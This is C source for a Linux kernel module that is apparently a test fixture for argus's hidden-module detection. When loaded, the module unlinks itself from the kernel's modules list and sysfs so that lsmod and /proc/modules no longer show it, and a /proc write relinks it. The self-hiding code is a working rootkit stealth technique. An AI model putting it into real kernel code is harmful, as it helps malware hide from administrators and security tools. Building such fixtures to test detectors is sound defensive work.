// SPDX-License-Identifier: GPL-2.0
/*
 * hidekmod - a test rootkit for argus's Kernel Module Hidden detection.
 *
 * insmod hidekmod.ko
 * hides this module the way self-hiding rootkits do: it unlinks its own
 * struct module from the kernel's modules list (what /proc/modules and
 * lsmod read) and deletes its kobject (/sys/module/hidekmod and its place
 * on module_kset's list).  Its memory stays in mod_tree, the module
 * address tree, which the kernel needs to resolve addresses in it.
 *
 * echo 1 >/proc/hidekmod links it back into both lists (not sysfs), so
 * that the guest it ran in shows nothing hidden afterwards.  It has no
 * exit function: it cannot be unloaded (its sysfs teardown would find
 * no directory).  For testing only; loaded in a disposable test guest.
 */
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/uaccess.h>

static struct list_head *modules_head;	/* the kernel's `modules` (not exported) */
static struct kset *kset;
static bool hidden;

/* The list head is the one entry of the modules list that lies in the
 * kernel image, not in the module area. */
static struct list_head *find_head(void)
{
	struct list_head *p;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
			return p;
	return NULL;
}

static ssize_t unhide_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	if (!hidden)
		return len;
	/* module_mutex is not exported: like real rootkits, go without it
	 * (the test guest is quiet while this runs) */
	list_add_tail_rcu(&THIS_MODULE->list, modules_head);
	spin_lock(&kset->list_lock);
	list_add_tail(&kobj->entry, &kset->list);
	spin_unlock(&kset->list_lock);
	hidden = false;
	pr_info("hidekmod: linked back into the modules list and module_kset\n");
	return len;
}

static const struct proc_ops unhide_ops = {
	.proc_write = unhide_write,
};

static int __init hidekmod_init(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	modules_head = find_head();
	kset = kobj->kset;
	if (!modules_head || !kset)
		return -ENOENT;
	if (!proc_create("hidekmod", 0200, NULL, &unhide_ops))
		return -ENOMEM;
	kset_get(kset);			/* kobject_del drops the kobject's reference */
	list_del(&THIS_MODULE->list);
	kobject_del(kobj);
	hidden = true;
	pr_info("hidekmod: unlinked from the modules list and sysfs\n");
	return 0;
}

module_init(hidekmod_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: a module that hides itself");
